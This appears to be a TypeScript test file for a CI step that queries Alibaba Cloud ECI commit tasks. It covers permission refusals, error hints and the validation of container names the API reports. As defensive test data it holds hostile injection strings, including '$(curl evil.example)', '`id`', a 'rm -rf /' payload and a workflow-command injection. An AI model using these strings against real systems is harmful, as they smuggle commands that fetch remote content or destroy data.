/** run() with task-id, in-process: what a step reports when a query is refused, a name is hostile, or no API. */
import { mockCoreAndSummary, recorded } from '../../test-support/core-stand-in.js';

mockCoreAndSummary();

const { startFakeApiStep } = await import('../../test-support/fake-api-step.js');
const { apiError, task } = await import('../../test-support/fakes.js');
type EciScript = import('../../test-support/fake-eci-api.js').EciScript;

const REPOSITORY = 'registry.cn-hangzhou.aliyuncs.com/octo/shop';
const INPUTS: Record<string, string> = {
  'region-id': 'cn-hangzhou',
  'task-id': 't-done1, t-open2, t-open3',
  'access-key-id': 'LTAI5tExampleKeyId',
  'access-key-secret': 'example-secret-not-real'
};
const FORBIDDEN = apiError({
  code: 'Forbidden.RAM',
  statusCode: 403,
  retryable: false,
  message: 'User not authorized to operate on the specified resource.'
});

async function step(inputs: Record<string, string>, script: EciScript, createFails?: Error) {
  const { api, running } = startFakeApiStep(inputs, script, createFails ? { createApiError: createFails } : {});
  await running;
  return api;
}

const texts = (): string[] => recorded.lines.map((line) => line.text);
const results = (): Array<{ taskId: string; status: string; container: string }> =>
  JSON.parse(recorded.outputs.get('results') ?? '[]');

describe('run with task-id: a query refused partway', () => {
  const script: EciScript = {
    describes: [
      [
        task({ taskId: 't-done1', status: 'Succeeded', progress: 100, containerName: 'app' }),
        task({ taskId: 't-open2', containerName: 'worker' }),
        task({ taskId: 't-open3' })
      ],
      FORBIDDEN
    ]
  };

  it('keeps the task already finished, and tells the refusal once for the tasks still open', async () => {
    await step(INPUTS, script);

    expect(results().map(({ taskId, status }) => [taskId, status])).toEqual([
      ['t-done1', 'Succeeded'],
      ['t-open2', 'Running'],
      ['t-open3', 'Running']
    ]);
    expect(recorded.failed).toHaveLength(1);
    const failure = recorded.failed[0];
    expect(failure).toMatch(/^2 of 3 commit tasks failed:\n- t-open2 \[worker\], t-open3: DescribeCommitContainerTask/);
    expect(failure.match(/Forbidden\.RAM/g)).toHaveLength(1);
    expect(failure).toContain('Tasks t-open2, t-open3 keep running on ECI');
    expect(failure).not.toContain('t-done1');
  });

  it('hints only at the permission a step with task-id needs', async () => {
    await step(INPUTS, script);
    const hint = recorded.failed[0].split('\n').find((line) => line.includes('Hint:'));
    expect(hint).toContain('eci:DescribeCommitContainerTask');
    expect(hint).not.toContain('eci:CommitContainer');
  });

  it('hints at task-id and region-id, not the commit inputs, for a rejected parameter', async () => {
    await step(
      { ...INPUTS, 'task-id': 't-open2' },
      { describes: [apiError({ code: 'InvalidParameter', statusCode: 400, retryable: false })] }
    );
    expect(recorded.failed).toHaveLength(1);
    expect(recorded.failed[0]).toMatch(/Hint: .*check task-id .*region-id/);
    expect(recorded.failed[0]).not.toMatch(/container-name|image-repository/);
  });
});

describe('run with task-id: the container name ECI reports', () => {
  const HOSTILE = 'x\n::warning::injected';
  const listed = (containerName: string): EciScript => ({
    describes: [[task({ taskId: 't-open2', status: 'Succeeded', progress: 100, containerName })]]
  });

  it('leaves the image unknown when the name does not make a valid image, and never logs a raw line break', async () => {
    await step(
      { ...INPUTS, 'task-id': 't-open2', 'image-repository': REPOSITORY, 'image-tag': '{container}' },
      listed(HOSTILE)
    );

    expect(recorded.failed).toEqual([]);
    expect(recorded.outputs.has('image')).toBe(false);
    expect(recorded.outputs.has('image-tag')).toBe(false);
    expect([...recorded.outputs.values()].some((value) => value.includes('\n'))).toBe(false);
    expect(texts().some((line) => line.includes('\n::') || line.startsWith('::'))).toBe(false);
    expect(texts().some((line) => /The image of task t-open2 is unknown/.test(line))).toBe(true);
    expect(texts()).toContain('Commit task t-open2 succeeded.');
  });

  it.each(['$(curl evil.example)', '`id`', "app'; rm -rf / #", 'App'])(
    'leaves out of results a name that is no container name: %s',
    async (name) => {
      await step({ ...INPUTS, 'task-id': 't-open2' }, listed(name));

      expect(recorded.failed).toEqual([]);
      expect(results()).toEqual([expect.objectContaining({ taskId: 't-open2', container: '' })]);
      expect(texts()).toContain(
        `Task t-open2 names its container ${name}, not a container name: the results leave it empty.`
      );
    }
  );

  it('keeps a valid container name in results', async () => {
    await step({ ...INPUTS, 'task-id': 't-open2' }, listed('app-2'));
    expect(results()).toEqual([expect.objectContaining({ taskId: 't-open2', container: 'app-2' })]);
  });

  it('fills {container} in from a valid name, and says the image is what image-repository names', async () => {
    await step(
      { ...INPUTS, 'task-id': 't-open2', 'image-repository': REPOSITORY, 'image-tag': '{container}' },
      listed('app')
    );

    expect(recorded.outputs.get('image')).toBe(`${REPOSITORY}:app`);
    expect(texts()).toContain(`Commit task t-open2 succeeded (image-repository names it ${REPOSITORY}:app).`);
  });
});

describe('run with task-id: before the API', () => {
  it('sets task-id and results even when the credentials fail', async () => {
    const api = await step(INPUTS, {}, new Error('No credentials: give access-key-id and access-key-secret'));

    expect(api.describeCalls).toEqual([]);
    expect(recorded.failed).toEqual([expect.stringContaining('No credentials')]);
    expect(recorded.outputs.get('task-id')).toBe('t-open3');
    expect(results().map(({ taskId }) => taskId)).toEqual(['t-done1', 't-open2', 't-open3']);
  });
});
